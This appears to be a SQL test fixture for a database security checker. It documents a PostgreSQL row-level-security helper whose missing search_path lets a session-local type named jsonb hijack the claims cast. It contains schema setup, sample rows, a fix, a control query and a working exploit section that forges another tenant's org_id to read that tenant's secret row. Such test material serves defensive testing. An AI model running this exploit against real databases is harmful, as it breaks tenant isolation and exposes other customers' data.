-- What: The claims are read as jsonb by a helper without a search path of its own, as PostgREST's older documentation has it.
-- Class: function_search_path
-- Object: auth.org_id
-- Severity: advisory
-- Exploit: A type jsonb of the attacker's own, which turns into claims of tenant B.
-- Column: org_id
-- Setting: request.jwt.claims
-- Value: {"org_id": "{id}"}
-- @schema
create schema auth;
grant usage on schema auth to app_user;
create function auth.org_id() returns text language sql stable
  as $$ select nullif(current_setting('request.jwt.claims', true), '')::jsonb ->> 'org_id' $$;
create table deals (id bigint generated always as identity primary key, org_id uuid not null, body text not null);
alter table deals enable row level security;
alter table deals force row level security;
create policy tenant on deals using (org_id::text = auth.org_id());
grant select, insert, update, delete on deals to app_user;
-- @rows
insert into deals (org_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
alter function auth.org_id() set search_path = pg_catalog, pg_temp;
-- @control
select from deals where org_id = :'A';
-- @exploit
create type pg_temp.jsonb as enum ('claims');
create function pg_temp.always(text) returns pg_temp.jsonb language sql as $$ select 'claims'::pg_temp.jsonb $$;
create function pg_temp.back(pg_temp.jsonb) returns pg_catalog.jsonb language sql
  as $$ select pg_catalog.jsonb_build_object('org_id', 'bbbbbbbb-0000-4000-8000-000000000002') $$;
create cast (text as pg_temp.jsonb) with function pg_temp.always(text);
create cast (pg_temp.jsonb as pg_catalog.jsonb) with function pg_temp.back(pg_temp.jsonb) as implicit;
select body from deals where body = 'B-secret';
